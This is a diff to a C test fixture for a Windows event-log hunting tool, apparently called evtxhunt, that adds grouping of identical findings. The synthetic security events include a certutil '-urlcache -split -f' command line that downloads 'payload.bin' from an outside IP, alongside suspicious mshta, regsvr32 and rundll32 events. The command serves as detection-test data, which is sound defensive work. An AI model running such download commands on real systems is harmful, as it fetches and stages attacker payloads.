@@ -19,6 +19,7 @@
 #include "correlate.h"
 #include "ev_arena.h"
 #include "event.h"
+#include "findings.h"
 #include "ingest.h"
 #include "report/report.h"
 
@@ -43,6 +44,7 @@ struct fx {
 	struct corr		*corr;
 	struct finding_reason	 reasons[8];
 	struct finding		 findings[8];
+	struct findings		 fs;		/* the groups */
 	struct report		 rep;
 };
 
@@ -107,7 +109,7 @@ fx_build(struct fx *fx, bool all_events, const char *format, bool color)
 	    "pipe (count)" };
 	static const size_t reason_counts[] = { 3, 1 };
 	static const char *const unbaselined[] = { "msbuild.exe" };
-	struct ev_event *regsvr, *mshta, *rundll, *cert, *load, *cmd;
+	struct ev_event *regsvr, *mshta, *rundll, *cert, *cert2, *load, *cmd;
 	struct ev_err err = EV_ERR_INIT;
 	const char *W = "WS01.corp.example", *S = "SRV02", *L = "LEGACY03";
 
@@ -172,6 +174,17 @@ fx_build(struct fx *fx, bool all_events, const char *format, bool color)
 	    "SubjectUserName", "SRV02$", "SubjectDomainName", "CORP",
 	    "TargetUserSid", "S-1-0-0", "MandatoryLabel", "S-1-16-16384");
 	cert = SEC(fx, 4688, 2, S, 26, 7002, "NewProcessId", "0xa10",
+	    "NewProcessName", "C:\\Windows\\System32\\certutil.exe",
+	    "CommandLine", "certutil.exe -urlcache -split -f "
+	    "http://203.0.113.9/a/very/long/path/that/goes/on/and/on/to/make/"
+	    "this/command/line/wrap/over/several/lines/of/the/text/report/"
+	    "payload.bin C:\\ProgramData\\payload.bin", "ProcessId", "0x9c4",
+	    "ParentProcessName", "C:\\Windows\\System32\\cmd.exe",
+	    "SubjectUserSid", "S-1-5-18", "SubjectUserName", "SRV02$",
+	    "SubjectDomainName", "CORP", "TargetUserSid", "S-1-0-0",
+	    "MandatoryLabel", "S-1-16-16384");
+	/* the same download again: an identical finding, grouped */
+	cert2 = SEC(fx, 4688, 2, S, 27, 7004, "NewProcessId", "0xa14",
 	    "NewProcessName", "C:\\Windows\\System32\\certutil.exe",
 	    "CommandLine", "certutil.exe -urlcache -split -f "
 	    "http://203.0.113.9/a/very/long/path/that/goes/on/and/on/to/make/"
@@ -258,20 +271,33 @@ fx_build(struct fx *fx, bool all_events, const char *format, bool color)
 	    "before", "baseline:module", NULL, "module `<user-temp>\\*.dll` "
 	    "never seen in 4,210 prior invocations", 4.25);
 	fx->findings[0] = (struct finding){ regsvr, &fx->reasons[0], 2,
-	    EV_LEVEL_HIGH };
+	    EV_LEVEL_HIGH, 0 };
 	fx->findings[1] = (struct finding){ load, &fx->reasons[5], 1,
-	    EV_LEVEL_LOW };
+	    EV_LEVEL_LOW, 0 };
 	fx->findings[2] = (struct finding){ mshta, &fx->reasons[2], 1,
-	    EV_LEVEL_CRITICAL };
+	    EV_LEVEL_CRITICAL, 0 };
 	fx->findings[3] = (struct finding){ cert, &fx->reasons[4], 1,
-	    EV_LEVEL_HIGH };
-	fx->findings[4] = (struct finding){ rundll, &fx->reasons[3], 1,
-	    EV_LEVEL_MEDIUM };
+	    EV_LEVEL_HIGH, 0 };
+	fx->findings[4] = (struct finding){ cert2, &fx->reasons[4], 1,
+	    EV_LEVEL_HIGH, 0 };
+	fx->findings[5] = (struct finding){ rundll, &fx->reasons[3], 1,
+	    EV_LEVEL_MEDIUM, 0 };
+	/* grouped as scan groups them (findings.c); v stays the fixture's */
+	findings_init(&fx->fs);
+	fx->fs.v = fx->findings;
+	fx->fs.n = 6;
+	if (findings_group(&fx->fs, FINDINGS_GROUP_EXACT) != 0)
+		abort();
+	fx->fs.v = NULL;
+	fx->fs.n = 0;
 
 	fx->rep.run = &fx->run;
 	fx->rep.corr = fx->corr;
 	fx->rep.findings = fx->findings;
-	fx->rep.nfindings = 5;
+	fx->rep.nfindings = 6;
+	fx->rep.groups = fx->fs.groups;
+	fx->rep.ngroups = fx->fs.ngroups;
+	fx->rep.grouping = "command line";
 	fx->rep.rules.loaded = 42;
 	fx->rep.rules.skipped = 3;
 	fx->rep.rules.rejected = 1;
@@ -283,8 +309,8 @@ fx_build(struct fx *fx, bool all_events, const char *format, bool color)
 	fx->rep.baseline = "self";
 	fx->rep.unbaselined = unbaselined;
 	fx->rep.nunbaselined = 1;
-	fx->rep.suppressed = 2;
-	fx->rep.filtered = 0;
+	fx->rep.suppressed = (struct findings_drop){ 1, 2 };
+	fx->rep.below = (struct findings_drop){ 3, 4 };
 	fx->rep.version = "evtxhunt 0.1.0";
 	fx->rep.command = "evtxhunt scan -f x evidence";
 	fx->rep.opts.format = format;
@@ -298,6 +324,7 @@ static void
 fx_release(struct fx *fx)
 {
 	corr_free(fx->corr);
+	findings_release(&fx->fs);
 	ev_arena_release(&fx->arena);
 }
 
